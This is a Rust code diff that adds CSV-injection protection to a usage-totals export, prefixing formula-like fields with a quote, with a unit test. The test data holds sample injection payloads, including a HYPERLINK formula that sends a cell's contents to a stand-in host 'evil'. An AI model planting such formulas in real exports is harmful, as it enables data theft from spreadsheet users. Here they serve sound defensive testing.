@@ -34,6 +34,13 @@ pub fn totals_json(query: &TotalsQuery, rows: &[GroupedTotal]) -> String {
 /// quoted when they hold a comma, a quote or a line break, quotes doubled). Columns:
 /// `day,method,path,subject,status,total`, keeping only the grouped ones.
 ///
+/// Paths and subjects come from clients, and a spreadsheet takes a cell starting
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return for a formula. Such a field is
+/// written with a single quote `'` in front (OWASP's advice against CSV injection),
+/// so a spreadsheet shows it as text: the path `=1+1` is the field `'=1+1`. A
+/// program reading the CSV sees that quote; the JSON answer holds the texts as they
+/// are.
+///
 /// ```
 /// use count_core::{Day, Dimension, Endpoint, GroupedTotal, Method, TotalsQuery, DateRange};
 ///
@@ -58,7 +65,7 @@ pub fn totals_csv(query: &TotalsQuery, rows: &[GroupedTotal]) -> String {
     for row in rows {
         fields.clear();
         for column in columns(query) {
-            fields.push(match column {
+            fields.push(spreadsheet_safe(match column {
                 "day" => row.day.map(|d| d.to_string()).unwrap_or_default(),
                 "method" => row
                     .endpoint
@@ -74,13 +81,22 @@ pub fn totals_csv(query: &TotalsQuery, rows: &[GroupedTotal]) -> String {
                     .unwrap_or_default(),
                 "status" => row.status.map(|s| s.code().to_string()).unwrap_or_default(),
                 _ => row.total.to_string(),
-            });
+            }));
         }
         let _ = out.write_record(&fields);
     }
     let bytes = out.into_inner().unwrap_or_default();
     // Every field is a `&str` or a number: the output is UTF-8.
     String::from_utf8(bytes).unwrap_or_default()
+}
+
+/// `field` with a `'` in front when a spreadsheet would take it for a formula.
+fn spreadsheet_safe(field: String) -> String {
+    if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{field}")
+    } else {
+        field
+    }
 }
 
 /// The columns of `query`'s answer, in their fixed order.
@@ -163,5 +179,45 @@ mod tests {
             totals_csv(&query, &[]),
             "day,method,path,subject,status,total\r\n"
         );
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_start_with_a_quote() {
+        let day = Day::new(2026, 11, 27).unwrap();
+        let query = TotalsQuery::new(
+            DateRange::day(day),
+            &[Dimension::Endpoint, Dimension::Subject],
+        )
+        .unwrap();
+        let row = |path: &str, subject: &str| {
+            GroupedTotal::new(1)
+                .with_endpoint(Endpoint::parse(Method::Get, path).unwrap())
+                .with_subject(Some(Subject::new(subject).unwrap()))
+        };
+        let rows = [
+            row("=HYPERLINK(\"http://evil/\"&A1,\"x\")", "=1+1"),
+            row("+cmd", "-2+3"),
+            row("@SUM(A1)", "a=b"),
+            row("/users/-1", "@team"),
+        ];
+        assert_eq!(
+            totals_csv(&query, &rows),
+            "method,path,subject,total\r\n\
+             GET,\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",'=1+1,1\r\n\
+             GET,'+cmd,'-2+3,1\r\n\
+             GET,'@SUM(A1),a=b,1\r\n\
+             GET,/users/-1,'@team,1\r\n"
+        );
+        // The JSON keeps every text as it is.
+        assert!(
+            totals_json(&query, &rows)
+                .contains(r#""path":"=HYPERLINK(\"http://evil/\"&A1,\"x\")","subject":"=1+1""#)
+        );
+        // Tab and carriage return are refused in paths and subjects; the rule still
+        // covers them.
+        assert_eq!(spreadsheet_safe("\tx".to_owned()), "'\tx");
+        assert_eq!(spreadsheet_safe("\rx".to_owned()), "'\rx");
+        assert_eq!(spreadsheet_safe("x=1".to_owned()), "x=1");
+        assert_eq!(spreadsheet_safe("".to_owned()), "");
     }
 }
